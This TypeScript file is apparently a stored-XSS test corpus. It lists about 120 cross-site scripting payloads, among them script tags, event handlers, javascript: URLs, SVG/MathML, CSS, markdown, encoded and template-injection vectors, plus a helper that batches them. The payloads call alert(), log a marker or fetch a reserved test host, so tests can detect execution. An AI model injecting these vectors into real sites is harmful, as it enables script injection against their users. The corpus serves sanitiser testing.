// A stored-XSS corpus, kept as data: vectors after the OWASP XSS Filter Evasion Cheat
// Sheet and the classes of PortSwigger's XSS cheat sheet (script tags, event handlers,
// javascript: URLs, SVG/MathML, srcdoc/iframes, CSS, markdown links and images, encoded
// variants, template injection). Each payload that could run calls alert(), logs the
// marker to the console, or fetches from xss.invalid, so the test can see it if it did.
export const xssMarker = "FWXSS";
const beacon = "http://xss.invalid/x";

const scriptTags = [
  `<script>alert(1)</script>`,
  `<script>console.log("${xssMarker}")</script>`,
  `<SCRIPT SRC=${beacon}.js></SCRIPT>`,
  `<script src=//xss.invalid/a.js></script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script>/*</script>*/alert(1)</script>`,
  `<<SCRIPT>alert(1);//<</SCRIPT>`,
  `<script\x20type="text/javascript">alert(1);</script>`,
  `<script\x3Etype="text/javascript">alert(1);</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `<script>fetch("${beacon}")</script>`,
];

const eventHandlers = [
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="console.log('${xssMarker}')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<body onload=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)>`,
  `<textarea autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<div onmouseover="alert(1)">hover</div>`,
  `<a onmouseover=alert(1)>link</a>`,
  `<iframe onload=alert(1)>`,
  `<object data=x onerror=alert(1)>`,
  `<style onload=alert(1)></style>`,
  `<form><button formaction=javascript:alert(1)>x</button></form>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<img src=x onerror=fetch("${beacon}")>`,
  `<img """><script>alert(1)</script>">`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
  `" onmouseover="alert(1)`,
  `' autofocus onfocus='alert(1)`,
  `<div style="width:100%;height:100%" onpointerenter=alert(1)>`,
  `<body onpageshow=alert(1)>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<img src=1 onerror=alert&lpar;1&rpar;>`,
  `<x contenteditable onblur=alert(1)>lose focus</x>`,
];

const javascriptUrls = [
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `javascript:alert(1)`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<base href="javascript:alert(1)//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<embed src="javascript:alert(1)">`,
];

const svgMathml = [
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKScvPg==#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">click</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg/onload=alert(1)//`,
];

const srcdocAndFrames = [
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
  `<iframe src="${beacon}"></iframe>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<frameset onload=alert(1)>`,
  `<portal src="${beacon}"></portal>`,
  `<link rel=import href="${beacon}">`,
  `<link rel=stylesheet href="${beacon}.css">`,
];

const css = [
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="width: expression(alert(1));">x</div>`,
  `<style>@import "${beacon}.css";</style>`,
  `<style>body{background:url("${beacon}.png")}</style>`,
  `<div style="behavior: url(${beacon}.htc);">x</div>`,
  `<style>*{x:expression(alert(1))}</style>`,
  `<div style="background-image:url(&#1;javascript:alert(1))">x</div>`,
  `<img style="xss:expr/*XSS*/ession(alert(1))">`,
];

const markdown = [
  `[click me](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](javascript&#58;alert(1))`,
  `![img](x" onerror="alert(1))`,
  `![img](javascript:alert(1))`,
  `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<javascript:alert(1)>`,
  `[x]: javascript:alert(1)\n[ref link][x]`,
  `![beacon](${beacon}.png)`,
  "```html\n<script>alert(1)</script>\n```",
  `**<img src=x onerror=alert(1)>**`,
  `[<img src=x onerror=alert(1)>](https://example.org)`,
];

const encoded = [
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `\\x3cscript\\x3ealert(1)\\x3c/script\\x3e`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `&#x3C;img src=x onerror=alert(1)&#x3E;`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">`,
  `＜script＞alert(1)＜/script＞`,
  `<scr&#0;ipt>alert(1)</scr&#0;ipt>`,
  `\u202E<script>alert(1)</script>`,
  `<img src=x onerror=\u0061lert(1)>`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
];

const templates = [
  `{{constructor.constructor('alert(1)')()}}`,
  `{{7*7}}`,
  `\${alert(1)}`,
  `#{alert(1)}`,
  `<%= alert(1) %>`,
  `{{$on.constructor('alert(1)')()}}`,
  `[[${"${"}alert(1)}]]`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}`,
  `<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=alert(1)>"}}></div>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<xmp><script>alert(1)</script></xmp>`,
];

export const xssVectors: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...javascriptUrls,
  ...svgMathml,
  ...srcdocAndFrames,
  ...css,
  ...markdown,
  ...encoded,
  ...templates,
];

// The corpus in a few batches, so a handful of records carries all of it.
export function xssBatches(size: number): string[] {
  const batches: string[] = [];
  for (let index = 0; index < xssVectors.length; index += size) {
    batches.push(xssVectors.slice(index, index + size).join("\n"));
  }
  return batches;
}
